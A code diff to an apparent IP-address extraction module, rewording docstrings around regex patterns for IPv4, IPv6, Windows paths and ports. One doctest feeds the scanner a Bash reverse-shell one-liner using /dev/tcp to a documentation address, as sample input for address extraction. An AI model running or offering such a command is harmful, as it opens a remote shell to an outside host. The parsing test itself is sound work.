@@ -22,8 +22,8 @@ from linksift.registries import domain_lookalikes, written_without_spaces
 from linksift.uri import IP_LITERAL
 
 _AFTER = r"(?![A-Za-z0-9_\-版]|[节節章条條款项項](?![点點目件记記])|\.\w|\.\.\w)"
-"""What does not follow an address: more of a number or, in Chinese and Japanese, the word for a section or version, but
-a longer word may, such as 节点, a node."""
+"""Text that never follows an address: more of a number or, in Chinese and Japanese, the word for a section or version.
+A longer word such as 节点 (node) may follow."""
 
 FOUR_PARTS = rf"\.(?<=[0-9]\.)[0-9]{{1,3}}+\.[0-9]{{1,3}}+\.[0-9]{{1,3}}+{_AFTER}"
 _GROUP = "[0-9A-Fa-f]{1,4}"
@@ -62,15 +62,15 @@ _END_OF_LABEL = lazy_pattern("(?:[0-9A-Fa-f]{1,2}|[A-Fa-f]{0,4}):")
 
 _IP_LITERAL = lazy_pattern(IP_LITERAL)
 _TELLING = lazy_pattern(r"(?=[0-9A-Fa-f]{0,3}[0-9])[0-9A-Fa-f]{3,4}(?![0-9A-Fa-f])|\.")
-"""A feature that tells an address from a name with two colons in code: a group of three or more characters with a
-digit, or four decimal parts."""
+"""A feature that distinguishes an address from a name with two colons in code: a group of three or more characters with
+a digit, or four decimal parts."""
 
 LONGEST_NUMBER = 3
 _NUMBER = "(?:25[0-5]|2[0-4][0-9]|1[0-9]{2}|[1-9]?[0-9])"
 _BEFORE_BACKSLASHES = re.escape(BEFORE_UNC_PATH.replace(":", ""))
 _AFTER_BACKSLASHES = "|".join(rf"(?<=\\{{{count}}})(?<![^{_BEFORE_BACKSLASHES}]\\{{{count}}})" for count in (2, 4))
-"""The place of the host in a path of Windows, `\\\\192.0.2.1\\b`, also with escaped backslashes. After a drive and
-its colon, four numbers are a version (`C:\\\\4.0.0.0`), while a domain may follow a label (`Root:\\\\a.example`)."""
+"""The place of the host in a Windows path, `\\\\192.0.2.1\\b`, also with escaped backslashes. After a drive and its
+colon, four numbers are a version (`C:\\\\4.0.0.0`), while a domain may follow a label (`Root:\\\\a.example`)."""
 
 _DEVICES = ("/dev/tcp/", "/dev/udp/", "/ip4/")
 _NAMES_BEFORE_SLASH = (*_DEVICES, "localhost/", "DIRECT/", "_PARENT/", "_HIT/", "_DST/")
@@ -93,14 +93,14 @@ _PAIRS = lazy_pattern(r"[0-9A-Fa-f]{2}(?::[0-9A-Fa-f]{2})*")
 
 _ALONE = r"(?![\w\-/?#%&=]|\.\w)"
 NUMBER_AFTER = rf"[/#][0-9]{{1,5}}+{_ALONE}"
-"""A number after an address that is no part of it: a prefix length, or a port after a slash or number sign."""
+"""A number after an address that is not part of it: a prefix length, or a port after a slash or number sign."""
 
 _PREFIX_LENGTH = lazy_pattern(rf"/[0-9]{{1,2}}+{_ALONE}")
 _PREFIX_LENGTH_OF_IPV6 = lazy_pattern(r"/[0-9]{1,3}(?![\w/])")
 _PORT_AFTER_SLASH = lazy_pattern(rf"/[0-9]{{3,5}}+{_ALONE}")
 _PORT_AFTER_HASH = lazy_pattern(rf"#[0-9]{{1,5}}+{_ALONE}")
 _FIRST_IN_PATH = lazy_pattern(rf"{_BEGINS_WORD}(?<=/)[0-9.]{{7,15}}(?::[0-9]{{1,5}})?/")
-"""What looks like an address but is the first segment of a path: `/192.0.2.1/b`."""
+"""Text that looks like an address but is the first segment of a path: `/192.0.2.1/b`."""
 
 _HOST_AND_ADDRESS = lazy_pattern(r"localhost/[0-9]{1,3}\.[0-9]{1,3}\.")
 
@@ -108,7 +108,7 @@ FARTHEST_BEFORE = 32
 """The greatest distance before an address at which its line may begin or a word may show that it is a version."""
 
 LEADS_TO_NUMBER = " \t\n\r\v\f\x1c\x1d\x1e\x1f\"'`(=:#.<*/;%>|"
-"""The ASCII characters that may separate a number from what introduces it, or precede it on its line; the kernel steps
+"""The ASCII characters that may separate a number from what introduces it, or precede it on its line; the kernel goes
 back over them to find the word or the line's end."""
 
 _WORD_BEFORE = lazy_pattern(r"([^\W\d_]+)[.:]?[\s\"'`(=:#]{0,3}\Z")
@@ -171,7 +171,7 @@ def bare_ipv6(source: ScannedText, colon: int) -> Iterator[Candidate]:
         return
     address, end = found[0], found.end()
     if text[start - 1 : start] == "[" and not _PREFIX_LENGTH_OF_IPV6.match(text, end):
-        return  # the bracket is that of an IP literal
+        return  # the bracket belongs to an IP literal
     is_telling = _TELLING.search(address) if "::" in address else _PAIRS.fullmatch(address) is None
     if is_telling and _IP_LITERAL.fullmatch(f"[{address}]"):
         remarks = (Step(prefix_length, end, end + 1, None),) if text.startswith("/", end) else ()
@@ -272,7 +272,7 @@ def port_after_hash(state: ScanState, end: int) -> int:
 
 @rule
 def port_of_device(state: ScanState, end: int) -> int:
-    """What follows an IP address in a device of Bash (Bash Reference Manual, 3.6) or in a multiaddr is no path.
+    """The text after an IP address in a device of Bash (Bash Reference Manual, 3.6) or in a multiaddr is not a path.
 
     >>> found("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1 and /ip4/192.0.2.2/tcp/1", kinds={"ip"})
     ['http://192.0.2.1', 'http://192.0.2.2']
